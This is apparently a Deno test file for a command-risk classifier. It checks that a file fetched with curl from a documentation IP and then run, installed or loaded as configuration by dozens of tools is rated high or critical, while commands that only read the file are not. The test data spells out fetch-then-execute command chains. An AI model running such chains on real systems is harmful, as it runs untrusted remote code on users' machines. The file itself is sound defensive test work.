import assert from "node:assert/strict";
import { assessCommand } from "../mod.ts";

const FETCHED = "curl -so x.dat http://198.51.100.7/x.dat; ";
const levelOf = (command: string) => assessCommand(command).risk_level;

/** What acts on a file as its own code, settings or package. */
const ACTS = [
  "go run x.dat",
  "dart run x.dat",
  "crystal run x.dat",
  "nim r x.dat",
  "zig run x.dat",
  "uv run --with rich x.dat",
  "uv run -p 3.12 x.dat",
  "uv run --python 3.12 x.dat",
  "deno run -A x.dat",
  "bun run x.dat",
  "streamlit run x.dat",
  "k6 run x.dat",
  "flink run -c Main x.dat",
  "hadoop jar x.dat",
  "cargo script x.dat",
  "tmux source x.dat",
  "tmux source-file x.dat",
  "dotnet x.dat",
  "mono x.dat",
  "wine x.dat",
  "wine64 x.dat",
  "expect x.dat",
  "osascript x.dat",
  "rust-script x.dat",
  "papermill x.dat out.ipynb",
  "nix-build x.dat",
  "nix-shell x.dat",
  "spark-submit --master yarn --class Main x.dat",
  "spark-submit --jars x.dat app.jar",
  "spark-submit --py-files x.dat app.py",
  "jupyter nbconvert --to html --execute x.dat",
  "jupyter execute x.dat",
  "jupyter run x.dat",
  "ant -f x.dat",
  "mvn -f x.dat",
  "mvn --file x.dat",
  "rake -f x.dat",
  "rake --rakefile x.dat",
  "scons -f x.dat",
  "fab -f x.dat",
  "skaffold run -f x.dat",
  "locust -f x.dat",
  "gradle -b x.dat",
  "gradle --build-file x.dat",
  "gradle -I x.dat build",
  "gradle --init-script x.dat build",
  "cmake -P x.dat",
  "gunicorn -c x.dat app:app",
  "gunicorn --config x.dat app:app",
  "celery -A x.dat worker",
  "celery --app x.dat worker",
  "flask --app x.dat run",
  "screen -c x.dat",
  "nginx -c x.dat",
  "kotlinc -script x.dat",
  "ssh -F x.dat host",
  "scp -F x.dat a host:",
  "sftp -F x.dat host",
  "npm install ./x.dat",
  "npm i ./x.dat",
  "pnpm add ./x.dat",
  "yarn add ./x.dat",
  "bun add ./x.dat",
  "gem install --local x.dat",
  "gem install x.dat",
  "flatpak install x.dat",
  "adb install x.dat",
  "helm install r ./x.dat",
  "helm upgrade -n apps r ./x.dat",
  "cargo install --path x.dat",
  "pip install ./x.dat",
  "docker load -i x.dat",
  "docker load < x.dat",
  "docker image load --input x.dat",
  "podman import x.dat",
  "nerdctl load -i x.dat",
  "ctr images import x.dat",
  "rsync x.dat y.sh; bash y.sh",
  "rsync x.dat bin/; bash bin/x.dat",
];

/** What only takes a file as data. */
const READS = [
  "go run . x.dat",
  "uv run a.py x.dat",
  "cargo run -- x.dat",
  "dotnet run x.dat",
  "bun run build x.dat",
  "deno run a.ts x.dat",
  "spark-submit --files x.dat app.py",
  "spark-submit app.py x.dat",
  "jupyter nbconvert --output x.dat a.ipynb",
  "helm install r chart -f x.dat",
  "papermill a.ipynb x.dat",
  "npm run build x.dat",
  "docker cp x.dat web:/x.dat",
  "docker load -i y.tar",
  "rsync x.dat y.txt; cat y.txt",
  "rsync y.sh z.sh; bash z.sh",
  "ant -f build.xml",
  "osascript a.scpt x.dat",
  "file x.dat",
];

Deno.test("what programs act on is judged by where it came from", () => {
  const rises = (command: string) =>
    /^(?:high|critical)$/.test(levelOf(command));
  assert.deepEqual(ACTS.filter((run) => !rises(FETCHED + run)), []);
  assert.deepEqual(READS.filter((run) => rises(FETCHED + run)), []);
  // The same file, written here; fab may go to other machines whatever it is given.
  assert.deepEqual(
    ACTS.filter((run) => !/^(?:gem install|fab )|--class/.test(run)).filter((
      run,
    ) => rises(`echo a > x.dat; ${run}`)),
    [],
  );
});

Deno.test("an address is fetched only by programs that fetch what they run", () => {
  assert.equal(levelOf("spark-submit https://x.example/a.jar"), "high");
  assert.equal(levelOf("spark-submit app.jar https://x.example/a"), "medium");
  assert.equal(levelOf("dotnet https://x.example/a.dll"), "medium");
});
